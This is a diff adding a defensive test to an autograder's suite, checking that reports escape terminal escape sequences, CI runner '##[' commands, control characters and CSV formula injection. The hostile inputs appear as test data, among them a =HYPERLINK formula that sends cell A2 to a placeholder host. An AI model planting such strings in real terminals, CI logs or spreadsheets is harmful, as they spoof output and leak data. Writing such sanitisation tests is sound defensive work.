@@ -255,6 +255,24 @@ def test_no_format_carries_a_scratch_path_or_an_unbounded_message(noisy_grade):
     assert all(len(t["output"]) <= 3 * MESSAGE_LIMIT for t in gradescope["tests"])
 
 
+def test_no_format_carries_what_a_terminal_a_ci_log_or_a_spreadsheet_acts_on():
+    """A submission's error message reaches every report: its escape sequences (a table row rewritten,
+    the rest hidden), the Actions runner's `##[` commands and control characters XML cannot hold are
+    written out; a failures.csv cell that starts like a formula is led by an apostrophe."""
+    from grader.course.batch import _csv
+
+    first = ALL_EXERCISES[0]
+    hostile = "\x1b[2K\x1b[Gpurity-2  1/1     ok\x1b[8m ##[add-mask]0 \x07"
+    report = Grade(target="hostile", seconds=1.0, error="", exercises=[
+        ExerciseGrade(first, [_check("a::test_file", False, reason=hostile)], 0, f"test_file: {hostile}", [], "error")])
+    for name, text in _formats(report).items():
+        assert "\x1b" not in text and "\x07" not in text and "##[" not in text, name
+    ET.fromstring(reports.to_junit(report))  # well-formed XML
+    assert "\\x1b[2K" in reports.table(report)
+    rows = _csv([["mallory", first.id, '=HYPERLINK("http://example.invalid/?"&A2,"lesson")'], ["alice", first.id, "ok"]])
+    assert "'=HYPERLINK" in rows and "alice" in rows
+
+
 def test_a_capped_message_says_how_much_was_cut():
     text = "y" * 300_000
     cut = capped(text, 500)
